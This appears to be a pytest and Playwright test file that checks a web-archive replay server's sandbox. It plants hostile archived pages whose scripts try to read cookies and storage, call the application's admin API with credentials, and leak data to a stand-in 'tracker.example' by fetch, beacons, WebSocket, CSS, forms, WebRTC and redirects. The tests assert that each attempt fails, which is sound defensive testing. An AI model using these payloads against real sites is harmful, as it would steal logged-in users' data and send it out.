"""Hostile archived pages in Chromium: they steal nothing, reach no other server, go nowhere."""

from __future__ import annotations

import socket
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page

from tests.archive import Shot, build_archive
from tests.flow.replay.stage import Leaks, browser, leaks, serving

__all__ = ["browser", "leaks"]

_REPORT = """<!doctype html><html><head><title>Hostile</title></head><body><pre id="out"></pre><script>
const told = {};
const say = (name, value) => {
  told[name] = String(value); document.getElementById('out').textContent = JSON.stringify(told) };
const attempt = async (name, act) => { try { say(name, await act()) } catch (error) { say(name, error.name) } };
const everything = [];
%s
Promise.allSettled(everything).then(() => say('done', 'yes'));
</script></body></html>"""

# A page without a head, read as XML, gets no script of ours: what holds it is the browser alone.
_UNAIDED = """<html xmlns="http://www.w3.org/1999/xhtml"><body><pre id="out"></pre><script>//<![CDATA[
document.documentElement.prepend(document.createElement('head'));
%s
//]]></script></body></html>"""

_THEFT = """
everything.push(attempt('origin', () => self.origin));
everything.push(attempt('cookie', () => document.cookie));
everything.push(attempt('set', () => { document.cookie = 'planted=1'; return 'ok' }));
everything.push(attempt('local', () => localStorage.getItem('secret')));
everything.push(attempt('session', () => sessionStorage.setItem('a', 'b')));
everything.push(attempt('database', () => { indexedDB.open('x'); return 'ok' }));
everything.push(attempt('caches', () => caches.open('x')));
everything.push(attempt('worker', () => navigator.serviceWorker.register('/web/2024js_/http://hostile.example/sw.js')));
everything.push(attempt('admin', async () => (await fetch('APP/api/admin/jobs', {credentials: 'include'})).status));
everything.push(attempt('delete', async () => (await fetch('APP/api/reports', {method: 'POST', credentials: 'include',
  mode: 'no-cors', body: '{}'})).type));
everything.push(attempt('stats', async () => (await fetch('APP/api/stats')).status));
"""

_LEAKS = """
const url = 'http://tracker.example/?stolen';
everything.push(attempt('fetch', async () => (await fetch(url, {mode: 'no-cors'})).type));
everything.push(new Promise(done => {
  const image = new Image(); image.onload = image.onerror = done; image.src = url }));
everything.push(new Promise(done => { const socket = new WebSocket('ws://tracker.example/');
  socket.onopen = socket.onerror = done }));
navigator.sendBeacon(url, 'x');
for (const [name, field] of [
  ['iframe', 'src'], ['script', 'src'], ['video', 'src'], ['object', 'data'], ['embed', 'src']]) {
  const element = document.createElement(name); element[field] = url; document.body.append(element) }
for (const rel of ['stylesheet', 'preconnect', 'dns-prefetch', 'prefetch', 'preload', 'manifest', 'icon']) {
  const link = document.createElement('link'); link.rel = rel; link.href = url; link.as = 'image';
  document.head.append(link) }
const style = document.createElement('style');
style.textContent = `@import '${url}'; body { background: url('${url}'); font-family: x }
  @font-face { font-family: x; src: url('${url}') }`;
document.head.append(style);
const form = document.createElement('form'); form.action = url; form.method = 'post'; form.target = 'sink';
const sink = document.createElement('iframe'); sink.name = 'sink'; document.body.append(sink, form); form.submit();
say('popup', String(window.open(url)));
const call = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:STUN'}]});
call.createDataChannel('x'); call.createOffer().then(offer => call.setLocalDescription(offer));
everything.push(new Promise(done => setTimeout(done, 700)));
"""


@dataclass(frozen=True, slots=True)
class Trap:
    """Hostile pages in an archive, and a way to look at one."""

    browser: Browser
    folder: Path

    def watch(self, script: str, *, unaided: bool = True) -> tuple[dict[str, str], list[str], Page]:
        """Replay a page with this script; return what it tells of itself and what the application's host was asked.

        `unaided` keeps our own script out of it, which would lead half of the attempts into the archive.
        """
        body, media_type = _REPORT % script, "text/html"
        if unaided:
            inner = body.partition("<script>")[2].partition("</script>")[0]
            body, media_type = _UNAIDED % inner, "application/xhtml+xml"
        archive = build_archive(self.folder / "home", [])
        with serving(archive) as port:
            build_archive(
                self.folder / "home",
                [
                    Shot(
                        url="http://hostile.example/",
                        body=body.replace("APP", f"http://localhost:{port}"),
                        media_type=media_type,
                    )
                ],
            ).database.close()
            context = self.browser.new_context()
            page = context.new_page()
            # A reader who is logged in: his cookie must never travel with what an archived page does.
            context.add_cookies(
                [{"name": "holdfast", "value": "secret", "url": f"http://localhost:{port}"},
                 {"name": "replay", "value": "secret", "url": f"http://replay.localhost:{port}"}]
            )  # fmt: skip
            sent: list[str] = []
            context.on("requestfinished", lambda request: sent.append(request.url))
            page.goto(f"http://replay.localhost:{port}/web/2024/http://hostile.example/")
            page.wait_for_function("document.getElementById('out').textContent.includes('done')", timeout=15_000)
            told: dict[str, str] = page.evaluate("JSON.parse(document.getElementById('out').textContent)")
            reached = [url for url in sent if url.startswith(f"http://localhost:{port}/api")]
            context.close()
        archive.database.close()
        return told, reached, page


@pytest.fixture
def trap(browser: Browser, tmp_path: Path, leaks: Leaks) -> Iterator[Trap]:
    """A trap; afterwards nothing may have left."""
    yield Trap(browser, tmp_path)
    assert leaks.asked == []


def test_an_archived_page_has_no_origin_no_cookie_no_storage_and_no_api(trap: Trap) -> None:
    told, reached, _ = trap.watch(_THEFT)

    assert told["origin"] == "null"
    assert all(told[name] == "SecurityError" for name in ("cookie", "set", "local", "session", "caches", "worker")), (
        told
    )
    assert told["database"] in ("SecurityError", "TypeError")
    assert all(told[name] == "TypeError" for name in ("admin", "delete", "stats")), told
    assert reached == []


def test_stand_ins_know_nothing_of_the_reader_and_lead_nowhere_but_into_the_archive(trap: Trap) -> None:
    told, reached, _ = trap.watch(_THEFT, unaided=False)

    assert (told["cookie"], told["set"], told["local"], told["session"]) == ("", "ok", "null", "undefined"), told
    assert all(told[name] == "TypeError" for name in ("database", "caches", "worker", "admin", "stats")), told
    assert reached == []


def test_an_archived_page_reaches_nobody_by_any_road(trap: Trap) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stun:
        stun.bind(("127.0.0.1", 0))
        stun.settimeout(0.2)

        told, _, _ = trap.watch(_LEAKS.replace("STUN", str(stun.getsockname()[1])))

        assert told["popup"] == "null"
        assert told["fetch"] == "TypeError"
        with pytest.raises(TimeoutError):
            stun.recv(100)


@pytest.mark.parametrize(
    "escape",
    ["location.href = 'http://tracker.example/gone'", "top.location = 'http://tracker.example/gone'",
     "document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content=0;url=//tracker.example/gone>')",
     "Object.assign(document.body.appendChild(document.createElement('a')), {href: 'http://tracker.example/gone', "
     "onclick: (event) => event.stopPropagation()}).click()"],
)  # fmt: skip
def test_a_script_cannot_take_its_reader_to_the_live_web(
    browser: Browser, leaks: Leaks, tmp_path: Path, escape: str
) -> None:
    body = f"<!doctype html><title>Run</title><h1>still here</h1><script>setTimeout(() => {{ {escape} }}, 50)</script>"
    archive = build_archive(tmp_path / "home", [Shot(url="http://hostile.example/", body=body)])
    with serving(archive) as port:
        page = browser.new_page()
        page.goto(f"http://replay.localhost:{port}/web/2024/http://hostile.example/")
        page.wait_for_url("chrome-error://**", timeout=10_000)
        page.close()
    archive.database.close()

    assert leaks.asked == []


def test_without_the_browser_guard_the_counter_would_see_the_leak(browser: Browser, leaks: Leaks) -> None:
    """The other tests can fail: a page that nobody guards is counted."""
    page = browser.new_page()
    with pytest.raises(Exception, match="ERR_"):
        page.goto("http://tracker.example/counted")
    page.close()

    assert any(line.startswith(b"GET /counted") for line in leaks.asked)
    leaks.first_bytes.clear()
